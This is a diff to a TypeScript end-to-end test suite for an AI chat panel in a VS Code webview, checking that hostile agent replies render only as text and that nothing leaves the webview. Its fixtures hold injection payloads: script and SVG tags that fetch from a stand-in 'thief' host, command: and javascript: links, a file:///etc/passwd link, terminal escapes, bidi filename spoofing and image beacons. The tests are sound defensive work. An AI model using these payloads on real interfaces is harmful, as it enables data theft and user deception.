@@ -28,8 +28,9 @@ const replies = (thief: string): Readonly<Record<string, string>> => ({
   script: `<script>fetch("${thief}/script")</script><script src="${thief}/file.js"></script><svg onload="fetch('${thief}/svg')"></svg></div></body>`,
   links:
     '[Free upgrade](command:workbench.action.closeAllEditors) command:workbench.action.quit vscode://polyai-chat/x javascript:alert(1) file:///etc/passwd data:text/html,<script>1</script> [ok](http://thief.invalid/)',
-  icons: '$(error) $(loading~spin) $(trash) ~~struck~~ **bold** `code` {0} %s \\n',
-  terminal: '\u001b[31mred\u001b[0m \u001b]8;;http://thief.invalid\u0007link\u001b]8;;\u0007 \u001b[2J\u009b1A',
+  icons: '$(error) $(loading~spin) $(trash) ~~struck~~ **bold** `code` { 0 } %s \\n',
+  terminal:
+    '\u001b[31mred\u001b[0m \u001b]8;;http://thief.invalid\u0007link\u001b]8;;\u0007 \u001b[2J\u009b1A',
   reordered: 'invoice\u202egpj.exe \u2066inside\u2069 \u200fright\u200e left\u061c',
   controls: 'a\u0000b\u0007c\u0008d\u000be\u000cf\u007fg\u0085h\u2028i\u2029j\u200bk\ufeffl\u{e0041}m\rn',
   picture: `![welcome](${thief}/picture.png) <img src=${thief}/picture2.png>\n\n| a | b |\n|---|---|\n| ![x](${thief}/cell.png) | [y](${thief}/cell) |`,
@@ -72,7 +73,7 @@ it('whatever the agent says is shown as text', async () => {
   await panel.waitForFocus();
   for (const [word, reply] of Object.entries(replies(thief.origin))) {
     const turn = await panel.ask(word);
-    assert.equal(withoutButtons(turn.agent), toVisibleText(reply), word);
+    assert.equal(turn.agent, toVisibleText(reply), word);
   }
   await assertNothingButText();
   await photograph(workbench, 'conversation-hostile');
@@ -112,14 +113,17 @@ it('five megabytes, ten thousand lines and an endless word leave the panel quick
   await photograph(workbench, 'conversation-huge');
   await assertQuick();
 
-  for (const [index, end] of ['no play.', 'line 10000', 'mmm'].entries()) {
+  for (const [index, end] of ['no play\\.', 'line 10000', 'mmm'].entries()) {
     await panel
       .turn(first + index)
       .getByRole('button', { name: /^Show all/ })
       .click();
-    await until('the end of it', async () =>
-      (await panel.turns())[first + index]?.agent.trimEnd().endsWith(end),
-    );
+    await panel
+      .turn(first + index)
+      .locator('.piece')
+      .last()
+      .filter({ hasText: new RegExp(`${end}\\s*$`) })
+      .waitFor({ state: 'attached' });
   }
   await photograph(workbench, 'conversation-huge-whole');
   await assertQuick();
@@ -145,7 +149,9 @@ it('nothing has left the webview, and its policy was never touched', async () =>
   assert.deepEqual(violations, []);
 
   // And it would have been noticed.
-  await panel.frame.evaluate(`document.body.append(Object.assign(new Image(), { src: '${thief.origin}/x' }))`);
+  await panel.frame.evaluate(
+    `document.body.append(Object.assign(new Image(), { src: '${thief.origin}/x' }))`,
+  );
   await until('the policy to object', () => violations.length > 0);
   assert.deepEqual(thief.received, []);
 });
@@ -153,7 +159,7 @@ it('nothing has left the webview, and its policy was never touched', async () =>
 /** No element in the transcript but those the panel makes itself. */
 async function assertNothingButText(): Promise<void> {
   const found = await panel.frame.evaluate<string[]>(
-    `[...document.querySelectorAll('a, img, iframe, script:not([nonce]), svg, form, style, object, embed, video, audio, [onclick], [onerror], [onload], #root link, #root input:not([type=checkbox])')]
+    `[...document.querySelectorAll('.transcript :is(a, img, iframe, script, svg, form, style, link, object, embed, video, audio, [style], [onclick], [onerror], [onload])')]
       .map((element) => element.outerHTML.slice(0, 200))`,
   );
   assert.deepEqual(found, []);
@@ -170,9 +176,9 @@ async function assertQuick(): Promise<void> {
     });
   })()`);
   const typed = 'quick';
-  for (const [index, letter] of [...typed].entries()) {
-    await vscode.workbench.page.keyboard.press(letter);
-    await panel.waitForMessage(typed.slice(0, index + 1));
+  for (let length = 1; length <= typed.length; length++) {
+    await vscode.workbench.page.keyboard.press(typed.charAt(length - 1));
+    await panel.waitForMessage(typed.slice(0, length));
   }
   const quickest = await until('the keys to be painted', async () => {
     const times = await panel.frame.evaluate<number[]>('painted');
@@ -180,9 +186,4 @@ async function assertQuick(): Promise<void> {
   });
   assert.ok(quickest < 200, `A keystroke took ${quickest.toFixed(0)} ms at best.`);
   await panel.message.fill('');
-}
-
-/** Beside an address stands a button; its name is not part of what was said. */
-function withoutButtons(text: string): string {
-  return text.replaceAll('\u00a0', ' ');
 }
